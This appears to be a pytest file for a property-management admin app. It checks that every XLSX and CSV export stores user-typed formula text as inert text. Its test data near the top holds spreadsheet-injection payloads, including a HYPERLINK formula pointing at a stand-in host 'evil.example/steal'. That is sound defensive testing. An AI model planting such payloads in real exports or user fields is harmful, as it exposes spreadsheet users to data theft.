"""Every export writes user text as inert text: no cell of any XLSX or CSV file it produces is a formula.

The test walks the registry of download kinds: an export added later without a case here fails
``test_every_export_has_a_case``. Each case stores hostile text where users can type it (a ticket title,
archive remarks, an owner's name and notes, a survey title) and reads the file back as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
from sqlmodel import select

from pm_admin.archives.files import catalog_params
from pm_admin.archives.queries import ArchiveFilter
from pm_admin.archives.services import catalog as archive_catalog
from pm_admin.core.clock import DISPLAY_ZONE, local_today
from pm_admin.core.files import DOWNLOAD_KINDS, issue_download, redeem_download, store_upload
from pm_admin.core.tables import TextSheet, csv_bytes, export_workbook, workbook_bytes
from pm_admin.dashboards.tables import CHARTS
from pm_admin.groups.models import GroupMember
from pm_admin.groups.services import moderation
from pm_admin.groups.services import setup as group_setup
from pm_admin.inspections.models import InspectionAnswer, InspectionTemplate
from pm_admin.inspections.services import common as inspection_common
from pm_admin.inspections.services import setup as inspection_setup
from pm_admin.inspections.services import tasks as inspection_tasks
from pm_admin.meetings.services import meetings as meeting_services
from pm_admin.owners.files import export_params
from pm_admin.owners.queries import OwnerFilter
from pm_admin.owners.services import owner_input
from pm_admin.owners.services import registry as owner_registry
from pm_admin.suggestions.services import intake as suggestion_intake
from pm_admin.surveys.services import plans
from pm_admin.surveys.services.plans import PlanInput
from pm_admin.tickets.ledger import LedgerView
from pm_admin.tickets.models import TicketCategory
from pm_admin.tickets.queries import TicketFilter
from pm_admin.tickets.services import actions as ticket_actions
from pm_admin.tickets.services import registration
from pm_admin.tickets.services.actions import ActionInput
from pm_admin.tickets.services.registration import TicketInput
from tests.support import factories

HYPERLINK = '=HYPERLINK("http://evil.example/steal","click")'
HOSTILE = (HYPERLINK, "=1+2", "+SUM(1,2)", "-2+3", "@SUM(1,2)")


def is_number(text: str) -> bool:
    """"-20.0" in a CSV file is a number to a spreadsheet, not a formula."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_cells(data: bytes, filename: str) -> list[str]:
    """Cells a spreadsheet program would run as formulas (a PDF or an image has none: nothing runs its text)."""
    if filename.endswith(".pdf"):
        assert data.startswith(b"%PDF-")
        return []
    if filename.endswith(".png"):
        assert data.startswith(b"\x89PNG\r\n\x1a\n")
        return []
    if filename.endswith(".csv"):
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
        return [cell for row in rows for cell in row
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)]
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [str(cell.value) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def texts(data: bytes, filename: str) -> set[str]:
    if filename.endswith(".csv"):
        return {cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row}
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return {str(cell.value) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None}


@pytest.fixture
def world(session):
    community, building, unit, room = factories.place_tree(session)
    manager = factories.sign_in(session, factories.user(session, "manager", communities=(community,)))
    admin = factories.sign_in(session, factories.user(session, "admin", all_communities=True))
    executive = factories.sign_in(session, factories.user(session, "executive", all_communities=True))
    owner = owner_registry.create_owner(session, actor=manager, room_id=room.id, started_on=date(2021, 3, 8),
                                        data=owner_input.OwnerInput(name=HYPERLINK, phones=["13800000001"],
                                                                       notes="=1+2", address="+SUM(1,2)",
                                                                       tags=["@SUM(1,2)"]))
    return {"community": community, "building": building, "room": room, "manager": manager, "admin": admin, "executive": executive,
            "owner": owner}


def _owners(session, world, fmt):
    return world["manager"], "owners_export", export_params(OwnerFilter(community_id=world["community"].id),
                                                             fmt=fmt, full_pii=False, language="zh-CN")


def _archives(session, world, fmt):
    archive = archive_catalog.ensure_archive(session, actor=world["manager"], room_id=world["room"].id)
    archive_catalog.set_remarks(session, actor=world["manager"], archive_id=archive.id, remarks="-2+3", expected="")
    return world["manager"], "archive_catalog", catalog_params(ArchiveFilter(community_id=world["community"].id),
                                                                "zh-CN")


def _review(session, world, fmt):
    category = session.exec(select(TicketCategory).where(TicketCategory.code == "water_power")).one()
    registration.create_ticket(session, actor=world["manager"], data=TicketInput(
        kind="complaint", category_id=category.id, tier="urgent", channel="hotline", title=HYPERLINK,
        room_id=world["room"].id), now=datetime.now(UTC) - timedelta(hours=5))  # late: in today's review
    return world["manager"], "ticket_review", {"day": local_today().isoformat(), "language": "zh-CN"}


def _ledger(session, world, fmt):
    category = session.exec(select(TicketCategory).where(TicketCategory.code == "water_power")).one()
    registration.create_ticket(session, actor=world["manager"], data=TicketInput(
        kind="repair", category_id=category.id, tier="normal", channel="hotline", title=HYPERLINK,
        description="=1+2 楼下漏水", room_id=world["room"].id))
    return world["manager"], "ticket_ledger", LedgerView(TicketFilter(community_id=world["community"].id),
                                                         status="").params("zh-CN")


def _survey_plan(session, world):
    today = local_today()
    return plans.create_plan(session, actor=world["manager"], data=PlanInput(
        title=HYPERLINK, year=today.year, period_kind="year", starts_on=str(today), ends_on=str(today),
        community_ids=[world["community"].id]))


def _survey_results(session, world, fmt):
    return world["manager"], "survey_results", {"plan_id": _survey_plan(session, world).id, "language": "zh-CN"}


def _survey_links(session, world, fmt):
    plan = _survey_plan(session, world)
    plans.save_question(session, actor=world["manager"], plan_id=plan.id,
                        data=plans.QuestionInput(kind="rating", text="=1+2", indicator="service"))
    plans.open_plan(session, actor=world["manager"], plan_id=plan.id)
    return world["manager"], "survey_links", {"plan_id": plan.id, "community_id": world["community"].id,
                                              "origin": "https://pm.example.com"}


def _template(session, world, fmt):
    return world["admin"], "owners_template", {"fmt": fmt}


def _charts(session, world, fmt):
    return world["executive"], "dashboard_chart", {"chart": CHARTS[0], "format": fmt, "period": "this_month"}


def _invitations(kind):
    def case(session, world, fmt):
        return world["manager"], kind, {"building_id": world["building"].id, "origin": "https://pm.example.com",
                                        "language": "zh-CN"}
    return case


def _meeting_attachment(session, world, fmt):
    """An uploaded document of a meeting: served as stored (a PDF: nothing runs its text)."""
    meeting = meeting_services.create_meeting(session, actor=world["manager"], data=meeting_services.MeetingInput(
        community_id=world["community"].id, title="季度会议", starts_at="2026-12-10T14:00", place="会议室"))
    upload = store_upload(session, principal=world["manager"], purpose_name=meeting_services.ATTACHMENT_PURPOSE,
                          filename="财务报告.pdf", data=b"%PDF-1.4 =1+2")
    attachment = meeting_services.attach_document(session, actor=world["manager"], meeting_id=meeting.id,
                                                  upload_id=upload.id, doc_type="financial_report")
    return world["manager"], "meeting_attachment", {"attachment_id": attachment.id}


def _suggestion_slip(session, world, fmt):
    """The photo of a suggestion box slip: served as stored (an image: nothing runs its text)."""
    upload = store_upload(session, principal=world["manager"], purpose_name=suggestion_intake.SLIP_PURPOSE,
                          filename="纸条.png", data=b"\x89PNG\r\n\x1a\n=1+2")
    suggestion = suggestion_intake.enter_suggestion(
        session, actor=world["manager"], photo_upload_id=upload.id, data=suggestion_intake.SuggestionInput(
            community_id=world["community"].id, channel="box", content="=1+2 建议",
            category_id=session.exec(select(TicketCategory.id)).first()))
    return world["manager"], "suggestion_slip", {"suggestion_id": suggestion.id}


def _group_evidence(session, world, fmt):
    """The screenshot of a group violation: served as stored (an image: nothing runs its text)."""
    group = group_setup.create_group(session, actor=world["manager"], data=group_setup.GroupInput(
        community_id=world["community"].id, name="=1+2 群", owner_user_id=world["manager"].user_id))
    member = GroupMember(group_id=group.id, room_id=world["room"].id, name="=1+2")
    session.add(member)
    session.flush()
    upload = store_upload(session, principal=world["manager"], purpose_name=moderation.EVIDENCE_PURPOSE,
                          filename="截图.png", data=b"\x89PNG\r\n\x1a\n=1+2")
    violation = moderation.report(session, actor=world["manager"], evidence_upload_id=upload.id,
                                  data=moderation.ReportInput(member_id=member.id, category="ad",
                                                              description="=1+2 广告"))
    return world["manager"], "group_evidence", {"violation_id": violation.id}


def _report_format(fmt: str) -> str:
    return "xlsx" if fmt == "xlsx" else "pdf"  # the reports come as XLSX or PDF, no CSV


def _monthly_report(session, world, fmt):
    """The running month's report: the community's name (typed by an admin) heads its summary sheet."""
    world["community"].name = HYPERLINK
    session.add(world["community"])
    session.flush()
    return world["manager"], "monthly_report", {"format": _report_format(fmt), "community_id": world["community"].id,
                                                "month": local_today().strftime("%Y-%m")}


def _callback_batch(session, world, fmt):
    """The week's repairs due for callback: a hostile repair title, resolved this week."""
    category = session.exec(select(TicketCategory).where(TicketCategory.code == "home_repair")).one()
    technician = factories.user(session, "technician", communities=(world["community"],))
    at = datetime.now(UTC) - timedelta(minutes=10)
    repair = registration.create_ticket(session, actor=world["manager"], now=at, data=TicketInput(
        kind="repair", category_id=category.id, tier="normal", channel="hotline", title=HYPERLINK,
        room_id=world["room"].id))
    for to, data in (("assigned", {"assignee_id": technician.id}), ("in_progress", {}),
                     ("resolved", {"resolution": "=1+2"})):
        repair = ticket_actions.drop(session, actor=world["manager"], ticket_id=repair.id,
                                     expected_version=repair.version, to_status=to, data=ActionInput(**data), now=at)
    return world["manager"], "callback_batch", {"format": _report_format(fmt), "community_id": world["community"].id,
                                                "week": at.astimezone(DISPLAY_ZONE).date().isoformat()}


def _inspection_photo(session, world, fmt):
    """A checklist item's photo: served as stored (an image: nothing runs its text)."""
    fire = session.exec(select(InspectionTemplate).where(InspectionTemplate.name == "消防季度抽查")).one()
    schedule = inspection_setup.create_schedule(session, actor=world["manager"], data=inspection_setup.ScheduleInput(
        community_id=world["community"].id, template_id=fire.id))
    task = next(t for t in session.exec(select(inspection_tasks.InspectionTask).where(
        inspection_tasks.InspectionTask.schedule_id == schedule.id)))
    upload = store_upload(session, principal=world["manager"], purpose_name=inspection_common.PHOTO_PURPOSE,
                          filename="隐患.png", data=b"\x89PNG\r\n\x1a\n=1+2")
    answers = [inspection_tasks.ItemAnswer(result="pass") for _ in task.items]
    answers[0] = inspection_tasks.ItemAnswer(result="fail", note="=1+2 杂物", photo_upload_id=upload.id)
    inspection_tasks.submit_task(session, actor=world["manager"], task_id=task.id, expected_version=task.version,
                                 answers=answers)
    answer = session.exec(select(InspectionAnswer).where(InspectionAnswer.task_id == task.id,
                                                         InspectionAnswer.position == 0)).one()
    return world["manager"], "inspection_photo", {"of": "answer", "id": answer.id}


def _visits_not_reached(session, world, fmt):
    """The households not reached this year: the hostile owner's household has had no visit."""
    return world["manager"], "visits_not_reached", {"community_id": world["community"].id, "building_id": "",
                                                    "language": "zh-CN"}


CASES = {"visits_not_reached": _visits_not_reached, "meeting_attachment": _meeting_attachment, "monthly_report": _monthly_report,
         "callback_batch": _callback_batch, "inspection_photo": _inspection_photo, "suggestion_slip": _suggestion_slip,
         "group_evidence": _group_evidence, "owner_invitations_xlsx": _invitations("owner_invitations_xlsx"),
         "owner_invitations_pdf": _invitations("owner_invitations_pdf"), "owners_export": _owners, "archive_catalog": _archives, "ticket_review": _review,
         "ticket_ledger": _ledger,
         "survey_results": _survey_results, "survey_links": _survey_links, "owners_template": _template,
         "dashboard_chart": _charts}
# The cases whose files carry the hostile text the case stored (the others still must hold no formula).
CARRIES_HOSTILE_TEXT = {"owners_export", "archive_catalog", "ticket_review", "survey_results", "owner_invitations_xlsx",
                        "monthly_report", "callback_batch", "ticket_ledger",
                        "visits_not_reached"}


def test_every_export_has_a_case():
    assert set(DOWNLOAD_KINDS) == set(CASES)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("kind", sorted(CASES))
def test_no_export_writes_a_formula(session, world, kind, fmt):
    principal, registered, params = CASES[kind](session, world, fmt)
    assert registered == kind
    ticket = issue_download(session, principal=principal, kind=kind, params=params)
    file = redeem_download(session, principal=principal, ticket_id=ticket)
    data = b"".join(file.chunks)
    assert formula_cells(data, file.filename) == []
    if kind in CARRIES_HOSTILE_TEXT and not file.filename.endswith(".pdf"):
        shown = texts(data, file.filename)
        kept = [text for text in HOSTILE if text in shown or "'" + text in shown
                or any(text in cell for cell in shown)]
        assert kept, f"{kind}: none of the stored text made it into the file"
    if kind == "dashboard_chart":  # every chart, both formats
        for chart in CHARTS:
            again = redeem_download(session, principal=principal, ticket_id=issue_download(
                session, principal=principal, kind=kind, params={**params, "chart": chart}))
            assert formula_cells(b"".join(again.chunks), again.filename) == [], chart


def test_the_writers_keep_text_inert():
    workbook = export_workbook()
    sheet = TextSheet(workbook, "x" * 40)  # also: a sheet name longer than Excel's 31 characters
    sheet.append([*HOSTILE, 3, 2.5, None])
    data = workbook_bytes(workbook)
    assert formula_cells(data, "f.xlsx") == []
    assert {*HOSTILE} <= texts(data, "f.xlsx")
    rows = list(csv.reader(io.StringIO(csv_bytes([[*HOSTILE, 3, -1.5]]).decode("utf-8-sig"))))
    assert rows == [["'" + text for text in HOSTILE] + ["3", "-1.5"]]
